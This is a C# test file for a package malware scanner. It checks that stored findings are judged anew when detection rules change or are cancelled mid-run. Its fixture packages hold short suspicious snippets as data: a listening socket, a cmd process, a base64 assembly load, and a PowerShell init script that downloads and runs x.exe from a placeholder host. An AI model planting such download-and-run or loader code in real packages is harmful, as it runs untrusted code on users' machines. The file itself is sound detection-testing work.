using Assay.Community.Building;
using Assay.Community.Index;
using Assay.Model;
using Assay.Scan;

namespace Assay.Community.Tests.Index;

public sealed class RejudgingTests : IDisposable
{
    private static readonly RulePack Rules = EmbeddedRules.Load();

    private readonly string _folder = Directory.CreateTempSubdirectory("assay-rejudging-").FullName;
    private readonly PackageFolder _packages = new PackageFolder()
        .Add("Door", "1.0.0", "new TcpListener(IPAddress.Any, 80).Start();")
        .Add("Door", "2.0.0", "Process.Start(\"cmd\", \"/c dir\");")
        .Add("Reads", "1.0.0", "Console.WriteLine(Environment.GetEnvironmentVariable(\"PATH\"));")
        .Add("Plain", "1.0.0", "Console.WriteLine(7);")
        .Add("Loads", "1.0.0", "Assembly.Load(Convert.FromBase64String(Console.ReadLine()));")
        .Add("Script", "1.0.0", "", files: [("tools/init.ps1", "Invoke-WebRequest http://a.example/x.exe -OutFile x.exe; Start-Process x.exe")]);

    public void Dispose()
    {
        _packages.Dispose();
        Directory.Delete(_folder, recursive: true);
    }

    // Conditions change places, rules go and come: what is judged from stored facts is what a new index says.
    [Fact]
    public async Task Judging_anew_gives_what_a_new_index_has()
    {
        using var kept = await BuildAsync("kept.db", Rules);
        for (var seed = 0; seed < 4; seed++)
        {
            var pack = Shuffled(seed);

            using var again = await BuildAsync("kept.db", pack);
            using var fresh = await BuildAsync($"fresh{seed}.db", pack);

            Assert.Equal(Findings(fresh.Database), Findings(again.Database));
            Assert.True(again.Run.Rejudged.Rules > 0 && again.Run.Rejudged.Changed > 0);
            Assert.Equal((0, 0), (again.Run.Read, again.Run.Rejudged.Missed));
        }
    }

    [Fact]
    public async Task A_changed_rule_looks_only_where_it_can_hold()
    {
        using var first = await BuildAsync("a.db", Rules);
        var pack = Changed("opens-listening-socket", rule => rule.When);

        using var second = await BuildAsync("a.db", pack);

        Assert.Equal(1, second.Run.Rejudged.Rules);
        Assert.Equal(1, second.Run.Rejudged.Looked);
        Assert.Equal(0, second.Run.Rejudged.Changed);
    }

    [Fact]
    public async Task The_same_rules_look_at_nothing()
    {
        using var first = await BuildAsync("a.db", Rules);
        using var second = await BuildAsync("a.db", Rules);

        Assert.Equal(new RejudgeResult(0, 0, 0, 0), second.Run.Rejudged);
        Assert.Equal(first.Generation, second.Generation);
    }

    [Fact]
    public async Task What_was_ended_on_the_way_is_done_again_from_the_beginning()
    {
        using var first = await BuildAsync("a.db", Rules);
        var pack = Shuffled(7);
        using var ending = new CancellationTokenSource();
        var seen = 0;
        await Assert.ThrowsAnyAsync<OperationCanceledException>(() => BuildAsync("a.db", pack, new Counter(() =>
        {
            if (++seen == 1)
            {
                ending.Cancel();
            }
        }), ending.Token));

        // The rules are changed once more before it is finished.
        var other = Shuffled(8);
        using var second = await BuildAsync("a.db", other);
        using var fresh = await BuildAsync("fresh.db", other);

        Assert.Equal(Findings(fresh.Database), Findings(second.Database));
        Assert.Null(second.Database.Setting(Rejudging.Unfinished));
    }

    [Fact]
    public async Task A_new_rule_that_fails_packages_changes_their_verdict()
    {
        using var first = await BuildAsync("a.db", Rules);
        var failing = Failing(first.Database);
        var condition = Rules.Behaviors.Single(rule => rule.Id == "opens-listening-socket").When;
        var fails = Rules.Policies.First(policy => policy is { Assessment: AssessmentKind.Malware, Status: AssessmentStatus.Fail, SubjectPackage: false }) with { Id = "zz-listens", When = condition, ConditionHash = "1", Chain = ChainKind.None };

        using (var second = await BuildAsync("a.db", Rules with { Policies = [.. Rules.Policies, fails] }))
        {
            Assert.DoesNotContain("door 1.0.0", failing);
            Assert.Equal(["door 1.0.0", .. failing], Failing(second.Database));
        }

        using var third = await BuildAsync("a.db", Rules);
        Assert.Equal(failing, Failing(third.Database));
    }

    private async Task<Built> BuildAsync(string name, RulePack rules, IProgress<CommunityProgress>? progress = null, CancellationToken cancellation = default)
    {
        var path = Path.Combine(_folder, name);
        var options = new CommunityBuildOptions { Rules = rules, Name = "test", Date = new DateOnly(2026, 11, 27), Parallel = 2 };
        var database = IndexDatabase.Open(path);
        var run = new BuildRun(database, IndexDatabase.Open(path), options, progress);
        try
        {
            await run.TakeInAsync([new FolderSource("test", _packages.Locations, options, allVersions: true)], cancellation);
        }
        catch
        {
            database.Dispose();
            throw;
        }

        return new Built(database, run);
    }

    private static RulePack Changed(string id, Func<BehaviorRule, Condition> condition) => Rules with
    {
        Behaviors = [.. Rules.Behaviors.Select(rule => rule.Id == id ? rule with { When = condition(rule), ConditionHash = "changed" } : rule)],
    };

    // A tenth of the rules takes the condition of another one, some go.
    private static RulePack Shuffled(int seed)
    {
        var random = new Random(seed);
        var plain = Rules.Behaviors.Where(rule => !Rests(rule.When)).ToArray();
        return Rules with
        {
            Sha256 = "pack " + seed,
            Behaviors = [.. Rules.Behaviors.Select(rule => Rehashed(random.Next(10) == 0 ? rule with { When = plain[random.Next(plain.Length)].When, ConditionHash = $"{seed} {rule.Id}" } : rule, seed))],
            Policies = [.. Rules.Policies.Where(_ => random.Next(10) != 0).Select(rule => Rehashed(rule, seed))],
        };
    }

    // The hash of a rule that rests on behaviors speaks of these too.
    private static T Rehashed<T>(T rule, int seed)
        where T : Rule => Rests(rule.When) ? rule with { ConditionHash = $"{seed} {rule.Id}" } : rule;

    private static bool Rests(Condition condition) => condition.Behavior is not null || condition.Children.Any(Rests);

    private static string[] Findings(IndexDatabase database)
    {
        var rules = RuleTable.Load(database);
        var found = new List<string>();
        using var command = database.Prepare("SELECT package.name, version.version, finding.verdict, finding.rules FROM finding JOIN version ON version.id = finding.version JOIN package ON package.id = finding.package");
        using var rows = command.ExecuteReader();
        while (rows.Read())
        {
            var numbers = new List<int>();
            RuleList.Read(rows.GetFieldValue<byte[]>(3), numbers);
            found.Add($"{rows.GetString(0)} {rows.GetString(1)} {rows.GetInt32(2)}: {string.Join(' ', numbers.Select(number => rules.NameOf(number)).Order(StringComparer.Ordinal))}");
        }

        return [.. found.Order(StringComparer.Ordinal)];
    }

    private static string[] Failing(IndexDatabase database)
    {
        var failing = new List<string>();
        using var command = database.Prepare("SELECT package.name || ' ' || version.version FROM finding JOIN version ON version.id = finding.version JOIN package ON package.id = finding.package WHERE finding.verdict = $fail", ("$fail", (int)VerdictStatus.Fail));
        using var rows = command.ExecuteReader();
        while (rows.Read())
        {
            failing.Add(rows.GetString(0));
        }

        return [.. failing];
    }

    private sealed record Built(IndexDatabase Database, BuildRun Run) : IDisposable
    {
        public string? Generation { get; } = Database.Setting("generation");

        public void Dispose() => Database.Dispose();
    }

    private sealed class Counter(Action report) : IProgress<CommunityProgress>
    {
        public void Report(CommunityProgress value) => report();
    }
}
